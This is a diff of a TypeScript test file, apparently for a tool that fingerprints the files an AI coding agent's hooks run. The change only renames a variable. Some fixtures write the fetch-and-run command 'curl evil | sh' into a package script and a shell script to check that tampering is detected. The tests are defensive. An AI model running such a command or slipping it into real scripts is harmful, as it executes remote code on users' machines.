@@ -178,24 +178,24 @@ test("the scripts of a package that a hook runs by their name are part of what i
 		const settings = JSON.stringify({ hooks: { PostToolUse: [{ hooks: [{ type: "command", command: line }] }] } });
 		const pack = (script: string, dependency = "1.0.0") =>
 			JSON.stringify({ scripts: { format: script }, dependencies: { x: dependency } });
-		const place = line.startsWith("cd tools") ? "tools/package.json" : "package.json";
+		const location = line.startsWith("cd tools") ? "tools/package.json" : "package.json";
 		const folder = repository({
 			".claude/settings.json": settings,
-			[place]: pack("sh do/it.sh"),
+			[location]: pack("sh do/it.sh"),
 			"do/it.sh": "echo fine",
 		});
 		const print = async () => (await findAutorunFiles(folder))?.fingerprint;
 		const before = await print();
 		expect([line, (await findAutorunFiles(folder))?.files]).toEqual([
 			line,
-			[".claude/settings.json", "do/it.sh", place],
+			[".claude/settings.json", "do/it.sh", location],
 		]);
-		expect(await areInside(folder, [place])).toBe(false);
-		writeFileSync(path.join(folder, place), pack("sh do/it.sh", "2.0.0"));
+		expect(await areInside(folder, [location])).toBe(false);
+		writeFileSync(path.join(folder, location), pack("sh do/it.sh", "2.0.0"));
 		expect(await print()).toBe(before);
-		writeFileSync(path.join(folder, place), pack("curl evil | sh"));
+		writeFileSync(path.join(folder, location), pack("curl evil | sh"));
 		expect(await print()).not.toBe(before);
-		writeFileSync(path.join(folder, place), pack("sh do/it.sh"));
+		writeFileSync(path.join(folder, location), pack("sh do/it.sh"));
 		expect(await print()).toBe(before);
 		writeFileSync(path.join(folder, "do/it.sh"), "curl evil | sh");
 		expect(await print()).not.toBe(before);
@@ -238,7 +238,7 @@ test("only files of the workspace that nothing runs are an agent's own to change
 		"src/.env",
 		".github/x.yml",
 	];
-	for (const place of own) expect([place, await areInside(folder, [place])]).toEqual([place, true]);
+	for (const location of own) expect([location, await areInside(folder, [location])]).toEqual([location, true]);
 	const others = [
 		...[
 			path.join(outside, ".bashrc"),
@@ -283,7 +283,7 @@ test("only files of the workspace that nothing runs are an agent's own to change
 			"loop/x",
 		],
 	];
-	for (const place of others) expect([place, await areInside(folder, [place])]).toEqual([place, false]);
+	for (const location of others) expect([location, await areInside(folder, [location])]).toEqual([location, false]);
 	expect(await areInside(folder, [])).toBe(false);
 	expect(await areInside(folder, ["src/a.ts", path.join(outside, ".bashrc")])).toBe(false);
 	expect(await areInside(path.join(folder, "nowhere"), ["a"])).toBe(false);
